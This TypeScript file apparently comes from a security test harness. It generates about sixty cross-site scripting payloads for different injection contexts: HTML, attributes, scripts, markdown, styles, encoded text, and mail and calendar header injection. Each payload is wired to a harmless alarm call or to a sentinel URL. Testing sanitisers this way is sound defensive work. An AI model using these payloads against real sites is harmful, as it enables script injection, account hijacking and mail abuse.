/** The place in which a payload would run if it were inserted unescaped. */
export type Sink =
  /** Element content (`innerHTML`). */
  | 'html'
  /** A document while it is parsed, where scripts run. */
  | 'document'
  /** A quoted attribute value, with double or single quotes. */
  | 'double'
  | 'single'
  /** A script: inside quotes, in a template literal, or as bare JSON. */
  | 'string'
  | 'apostrophes'
  | 'template'
  | 'json'
  /** The address of a link or of a frame. */
  | 'link'
  | 'frame'
  /** Markdown that is not sanitised. */
  | 'markdown'
  /** A style sheet, or the style of an element. */
  | 'sheet'
  | 'style'
  /** An element with parsing rules of its own. */
  | 'title'
  | 'textarea'
  | 'noscript'
  /** HTML after decoding entities, percent-encoding, escapes or full-width characters. */
  | 'entities'
  | 'percents'
  | 'escapes'
  | 'width'
  /** A line of a calendar file, or a header of a mail. */
  | 'calendar'
  | 'header'

export interface Payload {
  sink: Sink
  text: string
}

/** The function that every payload tries to call with its number. */
export const alarm = 'xssAlarm'

type Write = (call: string, url: string) => string

const svg = (call: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`).toString('base64')

const written: [Sink, Write][] = [
  // Tags in the malformed variants that browsers accept.
  ['document', (call) => `<script>${call}</script>`],
  ['document', (call) => `<ScRiPt\n>${call}</sCrIpT\t>`],
  ['document', (_call, url) => `<script src=${url}.js></script>`],
  ['document', (call) => `<scr<script>ipt>${call}</scr</script>ipt><script>${call}</script>`],
  ['html', (call) => `<img src=x onerror=${call}>`],
  ['html', (call) => `<IMG """><img/src="x"/OnErRoR="${call}">`],
  ['html', (call) => `<img src=x onerror="${[...call].map((sign) => `&#${sign.codePointAt(0)};`).join('')}">`],
  ['html', (call) => `<img src=x:x onerror\u000C=\u000C${call}//>`],
  ['html', (call) => `<video><source onerror="${call}"></video>`],
  ['html', (call) => `<audio src=x onerror=${call}></audio>`],
  ['html', (call) => `<details open ontoggle=${call}><summary>open</summary></details>`],
  ['html', (call) => `<input autofocus onfocus=${call}>`],
  ['html', (call) => `<p style="animation:1s spin" onanimationstart=${call} onpointerover=${call}>over me</p>`],
  ['html', (call) => `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`],
  ['html', (call) => `<iframe src="javascript:parent.${call}"></iframe>`],
  ['html', (call) => `<object data="data:text/html,<script>${call}</script>"></object>`],
  ['html', (call) => `<embed src="data:image/svg+xml;base64,${svg(call)}">`],
  ['html', (call) => `<form action="javascript:${call}"><button>Go on</button></form>`],
  ['html', (call) => `<form id=f></form><button form=f formaction="javascript:${call}">Go on</button>`],
  ['html', (call) => `<a href="java&#9;script:${call}">here</a>`],
  ['html', (_call, url) => `<base href="${url}/">`],
  ['html', (_call, url) => `<link rel=stylesheet href="${url}.css">`],
  ['html', (_call, url) => `<meta http-equiv=refresh content="0;url=${url}">`],
  ['html', (_call, url) => `<style>@import '${url}.css';</style>`],
  ['html', (_call, url) => `<b style="background:url(${url}.png)">bold</b>`],
  // SVG and MathML, which have parsing rules of their own.
  ['html', (call) => `<svg onload=${call}></svg>`],
  ['html', (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
  ['html', (call) => `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>here</text></a></svg>`],
  ['document', (call) => `<svg><script>${call.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`],
  ['html', (call) => `<math href="javascript:${call}"><mi>x</mi></math>`],
  // Markup that sanitisers and browsers parse differently.
  ['html', (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${call}>">`],
  ['html', (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`],
  ['html', (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`],
  ['html', (call) => `<!--><img src=x onerror=${call}>-->`],
  ['html', (call) => `<xmp><img alt="</xmp><img src=x onerror=${call}>">`],
  ['noscript', (call) => `<p title="</noscript><img src=x onerror=${call}>">`],
  ['title', (call) => `</title><img src=x onerror=${call}>`],
  ['textarea', (call) => `</textarea><img src=x onerror=${call}>`],
  // Breaks out of attributes, scripts and templates.
  ['double', (call) => `"><img src=x onerror=${call}>`],
  ['double', (call) => `" autofocus tabindex=0 onfocus="${call}`],
  ['single', (call) => `' autofocus tabindex=0 onfocus='${call}`],
  ['json', (call) => `</script><script>${call}</script>`],
  ['string', (call) => `";${call};//`],
  ['apostrophes', (call) => `'-${call}-'`],
  ['template', (call) => `\${${call}}{{constructor.constructor('${call.replaceAll("'", '')}')()}}`],
  ['json', (call) => `<!--<script>\u2028</script><script>${call}</script>`],
  // Addresses.
  ['link', (call) => `javascript:${call}`],
  ['link', (call) => `\u0001JaVa\tScRiPt:${call}//https://ok.example`],
  ['frame', (call) => `data:text/html,<script>parent.${call}</script>`],
  // Markdown.
  ['markdown', (call) => `[here](javascript:${call}) <javascript:${call}>`],
  ['markdown', (call) => `![a](x"onerror="${call}) <img src=x onerror=${call}>`],
  ['markdown', (call) => `[a]: java&Tab;script:${call}\n\n[here][a] \`<b>\` <details open ontoggle=${call}>`],
  // Styles.
  ['sheet', (_call, url) => `}*{background:url("${url}.png")}</style>`],
  ['style', (_call, url) => `red;background:url(${url}.png);x:expression(1)`],
  // Text that is decoded once too often.
  ['entities', (call) => `&lt;img src=x onerror=${call}&gt;`],
  ['percents', (call) => `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`],
  ['escapes', (call) => `\\u003cimg src=x onerror=${call}\\u003e\u202E<img src=x onerror=${call}>\u2066`],
  ['width', (call) => `\u202E＜img src=x onerror=${call}＞\u202C`],
  // Lines of other formats.
  ['calendar', (_call, url) => `x\r\nATTACH:${url}\r\nEND:VEVENT\r\nBEGIN:VALARM\nACTION:AUDIO\nEND:VALARM\\n;,:"`],
  [
    'header',
    (call, url) => `x\r\nBcc: eve@${new URL(url).host}\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`,
  ],
]

/** All payloads. Payload n calls the alarm with n, or requests `/n` from the origin `sentinel`. */
export const payloadsFor = (sentinel: string): Payload[] =>
  written.map(([sink, write], index) => ({ sink, text: write(`${alarm}(${index})`, `${sentinel}/${index}`) }))
